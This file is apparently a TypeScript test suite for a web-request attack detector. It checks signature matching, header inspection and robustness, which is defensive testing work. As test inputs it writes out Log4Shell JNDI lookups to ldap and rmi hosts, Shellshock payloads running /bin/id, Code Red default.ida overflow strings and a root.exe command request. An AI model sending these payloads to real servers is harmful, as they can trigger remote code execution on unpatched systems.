import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { compileCatalogue, exampleRequest, matchList, parseRequestLine } from '../../src/detect/index.js';
import { builtinCatalogue, defaultEngine } from '../../src/rules/index.js';
import type { Engine, NormalisedRequest, Signature, Stage } from '../../src/detect/index.js';
import { LiteralAutomaton } from '../../src/detect/prefilter.js';
import { evidenceOf } from '../../src/detect/engine.js';
import { sanitiseLine } from '../../src/detect/sanitise.js';
import { readCorpus } from './corpus-sample.js';

function sig(id: string, stage: Stage, match: Signature['match']): Signature {
  return {
    id, family: 'test', title: id, description: id, references: [], stage, match,
    examples: { positive: [], negative: [] },
  };
}

/** The plain loop over the same catalogue: what the one-pass engine must agree with. */
function naive(signatures: readonly Signature[]) {
  const byStage = (stage: Stage) => {
    const sigs = signatures.filter((s) => s.stage === stage);
    return { sigs, list: sigs.map((s) => ({ target: s.match.target, re: new RegExp(s.match.pattern), methods: s.match.methods ?? null })) };
  };
  const stages = { request: byStage('request'), '404': byStage('404') };
  return (n: NormalisedRequest, stage: Stage): string | null => {
    const { sigs, list } = stages[stage];
    const hit = matchList(n as unknown as Record<string, unknown>, list);
    return hit ? sigs[hit.index]!.id : null;
  };
}

function classify(engine: Engine, line: string, headers?: Record<string, string>) {
  const n = engine.normalise(parseRequestLine(line, headers));
  return { n, request: engine.match(n, 'request'), notFound: engine.match(n, '404') };
}

describe('detect/engine', () => {
  describe('LiteralAutomaton', () => {
    it('reports every literal occurring in the text, overlapping ones included', () => {
      const ac = new LiteralAutomaton([{ literal: 'he', id: 0 }, { literal: 'she', id: 1 }, { literal: 'his', id: 2 }, { literal: 'hers', id: 3 }, { literal: 'é', id: 4 }]);
      const found: number[] = [];
      ac.scan('ushers', new Uint32Array(5), 1, found);
      assert.deepEqual(found.sort(), [0, 1, 3]);
      const punct = new LiteralAutomaton([{ literal: '${', id: 0 }, { literal: '()', id: 1 }, { literal: '%c0%', id: 2 }]);
      const hits: number[] = [];
      punct.scan('Mozilla/5.0 (X11) x=${y} (); a%c0%af', new Uint32Array(3), 1, hits);
      assert.deepEqual(hits.sort(), [0, 1, 2]);
      const none: number[] = [];
      punct.scan('Mozilla/5.0 (X11; Linux) $ { ( ) %c1', new Uint32Array(3), 1, none);
      assert.deepEqual(none, []);
      const again: number[] = [];
      ac.scan('caf\u00e9 his', new Uint32Array(5), 1, again);
      assert.deepEqual(again.sort(), [2, 4]);
    });

    it('tells Latin-1 bytes apart: a literal of bytes is found in a NOP sled, other high bytes are not it', () => {
      const ac = new LiteralAutomaton([{ literal: '\u00ffsmb', id: 0 }, { literal: '.ida', id: 1 }]);
      const found: number[] = [];
      ac.scan(`${'\u0090\u0002\u00b1'.repeat(2700)}\u00ffsmb`, new Uint32Array(2), 1, found);
      assert.deepEqual(found, [0]);
      const none: number[] = [];
      ac.scan(`${'\u0090'.repeat(100)}\u00fesmb \u00b1smb \u0100smb`, new Uint32Array(2), 1, none);
      assert.deepEqual(none, []);
    });

    it('finds every literal after long runs of characters that start none, at every offset past the run', () => {
      // Common letters start these literals: the scan has no skip pattern and jumps runs instead.
      const entries = [{ literal: 'admin', id: 0 }, { literal: 'cmd.exe', id: 1 }, { literal: 'nnn%u', id: 2 }, { literal: 'e', id: 3 }];
      const ac = new LiteralAutomaton(entries, { ascii: true });
      const fillers = ['-', '\u0090', 'N', '\u00b1', '~'];
      for (const filler of fillers) {
        for (let run = 0; run < 40; run++) {
          for (const { literal, id } of entries) {
            const text = `${filler.repeat(run)}${literal}${filler.repeat(run % 7)}`;
            const found: number[] = [];
            ac.scan(text, new Uint32Array(4), 1, found);
            const expected = entries.filter((e) => text.toLowerCase().includes(e.literal)).map((e) => e.id).sort();
            assert.deepEqual(found.sort(), expected, `${JSON.stringify(filler)} x ${run} then ${literal}`);
            assert.ok(found.includes(id));
            if (/^[\x20-\x7e]*$/.test(text) && !text.includes('%')) {
              const ascii: number[] = [];
              assert.equal(ac.scanAscii!(text.toUpperCase(), new Uint32Array(4), 1, ascii, 0) >= 0, true);
              assert.deepEqual(ascii.sort(), expected, `ascii: ${JSON.stringify(filler)} x ${run} then ${literal}`);
            }
          }
        }
      }
    });
  });

  describe('matching', () => {
    const catalogue = [
      sig('first', 'request', { target: 'path', pattern: '/x\\.cgi$', literals: ['x.cgi'] }),
      sig('second', 'request', { target: 'path', pattern: '\\.cgi$', literals: ['.cgi'] }),
      sig('late', '404', { target: 'path', pattern: '/x\\.cgi$', literals: ['x.cgi'] }),
      sig('post-only', 'request', { target: 'path', pattern: '^/upload$', literals: ['upload'], methods: ['POST'] }),
      sig('no-literal', 'request', { target: 'raw', pattern: '^.{50}', methods: ['SEARCH'] }),
      sig('anywhere', 'request', { target: 'all', pattern: 'evil\\{', literals: ['evil{'] }),
    ];
    const engine = compileCatalogue(catalogue);

    it('returns the first matching signature in catalogue order', () => {
      assert.equal(classify(engine, 'GET /x.cgi HTTP/1.1').request?.signature.id, 'first');
      assert.equal(classify(engine, 'GET /y.cgi HTTP/1.1').request?.signature.id, 'second');
    });

    it('keeps stages apart', () => {
      const r = classify(engine, 'GET /x.cgi HTTP/1.1');
      assert.equal(r.notFound?.signature.id, 'late');
      assert.equal(r.notFound?.stage, '404');
      assert.equal(classify(engine, 'GET /y.cgi HTTP/1.1').notFound, null);
    });

    it('honours the methods of a signature, with or without literals', () => {
      assert.equal(classify(engine, 'GET /upload HTTP/1.1').request, null);
      assert.equal(classify(engine, 'POST /upload HTTP/1.1').request?.signature.id, 'post-only');
      assert.equal(classify(engine, `GET /${'a'.repeat(60)} HTTP/1.1`).request, null);
      assert.equal(classify(engine, `SEARCH /${'a'.repeat(60)} HTTP/1.1`).request?.signature.id, 'no-literal');
    });

    it('tries an `all` pattern on the request line and on every header, and says which header', () => {
      assert.equal(classify(engine, 'GET /evil%7B HTTP/1.1').request?.signature.id, 'anywhere');
      const r = classify(engine, 'GET / HTTP/1.1', { 'x-whatever': 'fine', 'x-custom-thing': 'EVIL{' });
      assert.equal(r.request?.signature.id, 'anywhere');
      assert.equal(r.request?.detail, 'x-custom-thing: evil{');
    });

    it('gives as evidence the request line as received, sanitised and cut to 200 characters', () => {
      const v = classify(defaultEngine(), `GET /default.ida?${'N'.repeat(300)}\x1b HTTP/1.0`).request;
      assert.equal(v?.signature.id, 'codered-i');
      assert.ok(v!.evidence.startsWith('GET /default.ida?NNNN'));
      assert.equal(v!.evidence.length, 200, 'the ellipsis counts in the bound');
      assert.ok(v!.evidence.endsWith('...'));
      const ctl = classify(defaultEngine(), 'GET /scripts/root.exe?/c+dir\x07 HTTP/1.0').request;
      assert.equal(ctl?.evidence, 'GET /scripts/root.exe?/c+dir\\x07');
    });

    it('judges a repeated target the same each time, with each request\'s own headers and method', () => {
      const engine = defaultEngine();
      const target = `/default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3=a`;
      const first = engine.normalise({ method: 'GET', target, headers: { 'user-agent': 'a' } });
      const again = engine.normalise({ method: 'GET', target, headers: { 'user-agent': '${jndi:ldap://127.0.0.1/x}' } });
      const head = engine.normalise({ method: 'HEAD', target, headers: {} });
      const views = (n: NormalisedRequest) => [n.method, n.raw, n.path, n.query, n.url, n.line, n.resolved, n.received];
      assert.deepEqual(views(again), views(first));
      assert.equal(first.headers, 'user-agent: a');
      assert.equal(again.headers, 'user-agent: ${jndi:ldap://127.0.0.1/x}');
      assert.equal(head.line.startsWith('HEAD /default.ida?nnnn'), true);
      assert.equal(engine.match(first, 'request')?.signature.family, 'codered');
      assert.equal(engine.match(again, 'request')?.signature.family, 'codered');
      const other = engine.normalise({ method: 'GET', target: '/index.html' });
      assert.equal(other.url, '/index.html');
      assert.equal(engine.normalise({ method: 'GET', target }).url, first.url);
    });

    it('cuts the target before sanitising it into evidence, with the same result as sanitising it whole', () => {
      for (const method of ['GET', 'PROPFIND', 'X'.repeat(32)]) {
        for (let len = 150; len < 230; len++) {
          for (const tail of ['', '\x1b', '\u00b1\u00b1', '%u9090']) {
            const received = `/default.ida?${'N'.repeat(Math.max(0, len - 13 - tail.length))}${tail}`;
            const n = { ...defaultEngine().normalise({ method, target: received }), received };
            assert.equal(evidenceOf(n), sanitiseLine(`${n.method} ${received}`, 200), `${method} ${len} ${JSON.stringify(tail)}`);
          }
        }
      }
    });
  });

  describe('header inspection with the built-in catalogue', () => {
    const engine = defaultEngine();
    for (const header of ['user-agent', 'referer', 'cookie', 'x-api-version', 'x-anything-at-all']) {
      it(`finds Log4Shell and Shellshock in ${header}`, () => {
        assert.equal(classify(engine, 'GET / HTTP/1.1', { [header]: 'a=${${lower:j}ndi:ldap://198.51.100.7/a}' }).request?.signature.id, 'log4shell-jndi');
        assert.equal(classify(engine, 'GET / HTTP/1.1', { [header]: '() { :; }; /bin/id' }).request?.signature.id, 'shellshock');
      });
    }

    it('finds $%7Bjndi: percent-encoded in the request line and in a header', () => {
      assert.equal(classify(engine, 'GET /?q=$%7Bjndi:ldap://198.51.100.7/a%7D HTTP/1.1').request?.signature.id, 'log4shell-jndi');
      assert.equal(classify(engine, 'GET / HTTP/1.1', { 'x-forwarded-host': '$%7Bjndi:rmi://198.51.100.7/a%7D' }).request?.signature.id, 'log4shell-jndi');
    });

    it('leaves ordinary browser headers alone', () => {
      const headers = {
        'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
        cookie: '_ga=GA1.2.1234; theme=dark; cart={"items":[]}',
        referer: 'https://www.example.net/search?q=what+is+()+{}+in+javascript',
      };
      assert.equal(classify(engine, 'GET /index.html HTTP/1.1', headers).request, null);
    });

    it('judges headers read one by one as it judges the built header text', () => {
      const cases: Record<string, unknown>[] = [
        { 'user-agent': '${JNDI:ldap://198.51.100.7/a}' },
        { 'user-agent': 'Mozilla (X11)', referer: '$%7Bjndi:ldap://198.51.100.7/a}' },
        { a: '$', b: '{jndi:x}' },
        { 'x-$': '{jndi:x}' },
        { 'set-cookie': ['a=1', '() { :; }; /bin/id'] },
        { 'user-agent': `${'x'.repeat(9000)}\${jndi:x}` },
        { a: 'x'.repeat(8000), b: 'y'.repeat(8000), c: '() { :; }; id' },
        { 'user-agent': '\u00c0\u00a4{jndi:x}' },
        { 'content-length': 12 as unknown as string, 'user-agent': '() { :; }; id' },
      ];
      const custom = compileCatalogue([sig('ua-colon', 'request', { target: 'headers', pattern: 'agent: evil', literals: ['agent: evil'] })]);
      for (const e of [engine, custom]) {
        const anchored = [
          { 'user-agent': 'evil' }, { 'user-agent': 'EVIL' }, { 'user-agent': 'not evil' }, { 'x-user-agent': 'Evil/1.0' },
          { referer: 'http://x/?q=user-agent: evil' }, { referer: 'agent:evil' }, { 'user-agent': ['ok', 'evil'] },
        ];
        for (const headers of [...cases, ...anchored]) {
          const lazy = e.normalise({ method: 'GET', target: '/', headers: headers as Record<string, string> });
          const built = JSON.parse(JSON.stringify(lazy)) as NormalisedRequest;
          assert.equal(typeof built.headers, 'string');
          const verdicts = [e.match(lazy, 'request'), e.match(built, 'request')].map((v) => v && `${v.signature.id} ${v.detail}`);
          assert.equal(verdicts[0], verdicts[1], JSON.stringify(headers).slice(0, 80));
        }
      }
      assert.equal(classify(engine, 'GET / HTTP/1.1', { 'user-agent': '${JNDI:ldap://198.51.100.7/a}' }).request?.signature.id, 'log4shell-jndi');
      assert.equal(classify(custom, 'GET / HTTP/1.1', { 'user-agent': 'EVIL' }).request?.signature.id, 'ua-colon');
      // `agent: evil` is anchored on a header name: across the joint of a name ending in it, or inside a value.
      assert.equal(classify(custom, 'GET / HTTP/1.1', { 'x-user-agent': 'Evil/1.0' }).request?.detail, 'x-user-agent: evil/1.0');
      assert.equal(classify(custom, 'GET / HTTP/1.1', { referer: 'http://x/?q=user-agent: evil' }).request?.signature.id, 'ua-colon');
      assert.equal(classify(custom, 'GET / HTTP/1.1', { 'user-agent': 'not evil', referer: 'agent:evil' }).request, null);
    });

    it('builds the header text when read, the same whether read first or after matching', () => {
      const headers = { 'User-Agent': 'A%20B', referer: 'x' };
      const early = engine.normalise({ method: 'GET', target: '/', headers });
      assert.equal(early.headers, 'user-agent: a b\nreferer: x');
      const late = engine.normalise({ method: 'GET', target: '/', headers });
      assert.equal(engine.match(late, 'request'), null);
      assert.equal(late.headers, early.headers);
      late.headers = 'x: () { :; }; id';
      assert.equal(engine.match(late, 'request')?.signature.id, 'shellshock');
    });
  });

  describe('robustness', () => {
    const engine = defaultEngine();
    const nasty = [
      '', '%', '%%', '%u', '%u12', '%c0', '%c1%', '%e0%80', '\u0000\uffff\ud800', '\\'.repeat(10_000), '%'.repeat(100_000),
      '%c0%af'.repeat(20_000), `/${'a'.repeat(100_000)}`, '${'.repeat(50_000), '() {'.repeat(30_000), 'x'.repeat(100_000),
    ];

    it('never throws on garbage targets, methods and headers', () => {
      for (const s of nasty) {
        for (const stage of ['request', '404'] as const) {
          const n = engine.normalise({ method: s.slice(0, 1000), target: s, headers: { 'user-agent': s, x: [s, s] } });
          engine.match(n, stage);
        }
      }
      for (let i = 0; i < 300; i++) {
        const bytes = randomBytes(1 + (i * 37) % 3000).toString('latin1');
        const n = engine.normalise({ method: 'GET', target: bytes, headers: { 'user-agent': bytes } });
        engine.match(n, 'request');
        engine.match(n, '404');
        engine.normalise(parseRequestLine(bytes));
      }
    });

    it('does not throw on a malformed NormalisedRequest or RequestView either', () => {
      const broken = { method: undefined, raw: null } as unknown as NormalisedRequest;
      assert.equal(engine.match(broken, 'request'), null);
      assert.equal(engine.match(engine.normalise({} as never), '404'), null);
      assert.equal(engine.match(broken, 'other' as Stage), null);
      assert.equal(engine.match(null as unknown as NormalisedRequest, 'request'), null);
    });
  });

  describe('the prefilter gives the same verdicts as a plain loop', () => {
    it('on every catalogue example and a sample of the corpus, at both stages', () => {
      const engine = defaultEngine();
      const reference = naive(builtinCatalogue());
      const requests = builtinCatalogue().flatMap((s) => [...s.examples.positive, ...s.examples.negative]).map(exampleRequest);
      for (const line of readCorpus(undefined, 2500)) requests.push(parseRequestLine(line.request, line.headers));
      let flagged = 0;
      for (const r of requests) {
        const n = engine.normalise(r);
        for (const stage of ['request', '404'] as const) {
          const got = engine.match(n, stage)?.signature.id ?? null;
          assert.equal(got, reference(n, stage), `${stage} ${r.method} ${r.target.slice(0, 100)}`);
          if (got) flagged++;
        }
      }
      assert.ok(flagged > 100, `only ${flagged} verdicts: the comparison proves little`);
    });

    it('on generated catalogues with overlapping literals and random texts', () => {
      // Rounds 1, 4, ...: literals of punctuation only, so the scanners take their skip-ahead path;
      // rounds 0, 3, ...: `:` and space too, so header literals may straddle the `name: value`
      // joints; rounds 2, 5, ...: some literals anchored on a header name (`x-ab: c`), found
      // across the joint, with a header name ending in it (`c`, `ab` in `x-ab`) or inside a value.
      const alphabets = ['abc/.%${}: ', '/.%${}()', 'abc/.%${}: '];
      let seed = 7;
      const rnd = (n: number) => {
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        return seed % n;
      };
      const word = (len: number, alphabet = alphabets[0]!) => Array.from({ length: len }, () => alphabet[rnd(alphabet.length)]).join('');
      for (let round = 0; round < 30; round++) {
        const sigs: Signature[] = [];
        for (let i = 0; i < 40; i++) {
          const anchored = round % 3 === 2 && rnd(2) === 1;
          const lit = anchored ? `${['h', 'ab', 'x-ab', 'c'][rnd(4)]}: ${word(rnd(3))}` : word(1 + rnd(4), alphabets[round % 3]);
          const target = (['path', 'query', 'url', 'line', 'raw', 'headers', 'all'] as const)[rnd(7)]!;
          const escaped = lit.replace(/[.$%{}/]/g, (c) => `\\${c}`);
          sigs.push(sig(`g${i}`, rnd(2) ? 'request' : '404', { target, pattern: rnd(3) ? escaped : `${escaped}.?a`, literals: [lit] }));
        }
        const engine = compileCatalogue(sigs);
        const reference = naive(sigs);
        for (let k = 0; k < 200; k++) {
          const headers = { h: word(rnd(20)), 'X-Ab': word(rnd(8)).toUpperCase(), c: [word(rnd(6)), word(rnd(6))] };
          const n = engine.normalise({ method: 'GET', target: `/${word(rnd(30))}?${word(rnd(10))}`, headers });
          for (const stage of ['request', '404'] as const) assert.equal(engine.match(n, stage)?.signature.id ?? null, reference(n, stage));
        }
      }
    });
  });
});
